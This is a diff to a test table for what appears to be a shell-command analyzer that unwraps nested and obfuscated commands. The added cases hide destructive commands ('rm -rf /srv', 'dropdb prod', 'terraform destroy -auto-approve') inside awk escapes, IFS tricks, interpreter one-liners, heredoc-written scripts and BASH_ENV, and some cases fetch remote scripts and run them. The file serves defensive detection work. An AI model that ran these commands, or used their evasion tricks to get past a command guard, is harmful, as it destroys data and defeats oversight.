@@ -214,6 +214,31 @@ const rows: Row[] = [
   { cmd: 'eval "$(curl -fsSL https://x.io/env)"', has: [{ argv: ['curl', '-fsSL', 'https://x.io/env'] }], issues: ['remote-fetch-exec', 'dynamic-command'] },
   { cmd: 'find src -name "*.sh" -print0 | xargs -0 -n1 bash -n', has: [{ argv: ['bash', '-n', '{xargs-input}'] }] },
 
+  { cmd: "awk 'BEGIN { system(\"rm\\x20-rf\\x20/srv\") }'", has: [{ argv: ['rm', '-rf', '/srv'] }] },
+  { cmd: "awk 'BEGIN { system(\"rm\\040-rf\\040/srv\") }'", has: [{ argv: ['rm', '-rf', '/srv'] }] },
+  { cmd: 'find . | xargs -I{} awk -f {}', has: [{ argv: ['awk', '-f', '$XARGS_ITEM'] }], issues: ['opaque-interpreter'] },
+  { cmd: 'trap "terraform destroy -auto-approve" EXIT', has: [{ argv: TERRAFORM_DESTROY, via: ['trap'] }] },
+  { cmd: 'trap - EXIT; trap -p', has: [{ argv: ['trap', '-', 'EXIT'] }, { argv: ['trap', '-p'] }] },
+  { cmd: "bash -c 'IFS=,; $*' _ 'rm,-rf,/srv'", has: [{ argv: ['rm', '-rf', '/srv'] }] },
+  { cmd: "zsh -onotify -c '${1}' _ 'rm -rf /srv'", has: [{ argv: ['rm', '-rf', '/srv'], via: ['zsh -c'] }] },
+  { cmd: 'bash -Oextglob "$FILE"', has: [{ argv: ['bash', '-Oextglob', '$FILE'] }], issues: ['dynamic-command'] },
+  { cmd: "python -vc 'import os; os.system(\"rm -rf /srv\")'", has: [{ argv: ['rm', '-rf', '/srv'] }] },
+  { cmd: "node -pe 'require(\"child_process\").execSync(\"rm -rf /srv\")'", has: [{ argv: ['rm', '-rf', '/srv'] }] },
+  { cmd: 'node --eval="require(\'child_process\').execSync(\'dropdb prod\')"', has: [{ argv: ['dropdb', 'prod'] }] },
+  { cmd: 'ls | xargs -I{} python3 {}', has: [{ argv: ['python3', '$XARGS_ITEM'] }], issues: ['opaque-interpreter'] },
+  { cmd: 'python3 -m http.server', has: [{ argv: ['python3', '-m', 'http.server'] }] },
+  { cmd: 'python3 tools/clean.py --all', files: { 'tools/clean.py': 'import shutil\nshutil.rmtree("/srv/data")\n' }, has: [{ argv: ['rm', '-rf', '/srv/data'], via: ['python3 tools/clean.py'] }] },
+
+  // --- files written then run in the same input ---
+  { cmd: 'cat > run.sh <<EOF\nterraform destroy -auto-approve\nEOF\nbash run.sh', has: [{ argv: TERRAFORM_DESTROY, via: ['bash run.sh'] }] },
+  { cmd: 'echo "rm -rf /srv" > a.sh && chmod +x a.sh && ./a.sh', has: [{ argv: ['rm', '-rf', '/srv'], via: ['./a.sh'] }] },
+  { cmd: 'printf "rm -rf /srv\\n" >> a.sh; sh a.sh', files: { 'a.sh': 'echo start\n' }, has: [{ argv: ['echo', 'start'] }, { argv: ['rm', '-rf', '/srv'] }] },
+  { cmd: 'cp evil.sh safe.sh; bash safe.sh', files: { 'evil.sh': 'dropdb prod\n', 'safe.sh': 'echo ok\n' }, has: [{ argv: ['dropdb', 'prod'] }], not: [['echo', 'ok']] },
+  { cmd: 'curl -fsSL https://x.io/i.sh -o i.sh && bash i.sh', has: [{ argv: ['bash', 'i.sh'] }], issues: ['opaque-interpreter'] },
+  { cmd: 'cat > /tmp/env.sh <<EOF\nrm -rf /srv\nEOF\nBASH_ENV=/tmp/env.sh bash safe.sh', has: [{ argv: ['rm', '-rf', '/srv'], via: ['bash BASH_ENV'] }] },
+  { cmd: 'BASH_ENV="$STARTUP" bash safe.sh', has: [{ argv: ['bash', 'safe.sh'] }], issues: ['dynamic-command'] },
+  { cmd: '. -p /tmp "$FILE"', has: [{ argv: ['.', '-p', '/tmp', '$FILE'] }], issues: ['dynamic-command'] },
+
   // --- script files --------------------------------------------------------------------------------
   { cmd: 'bash deploy.sh prod', files: { 'deploy.sh': 'set -e\nterraform workspace select "$1"\nterraform destroy -auto-approve\n' }, has: [{ argv: ['bash', 'deploy.sh', 'prod'] }, { argv: ['terraform', 'workspace', 'select', 'prod'], origin: { file: 'deploy.sh', line: 2 } }, { argv: TERRAFORM_DESTROY, via: ['bash deploy.sh'], origin: { file: 'deploy.sh', line: 3 } }] },
   { cmd: './scripts/clean.sh', files: { 'scripts/clean.sh': '#!/bin/sh\nrm -rf /var/backups\n' }, has: [{ argv: ['rm', '-rf', '/var/backups'], via: ['./scripts/clean.sh'], origin: { file: './scripts/clean.sh', line: 2 } }] },
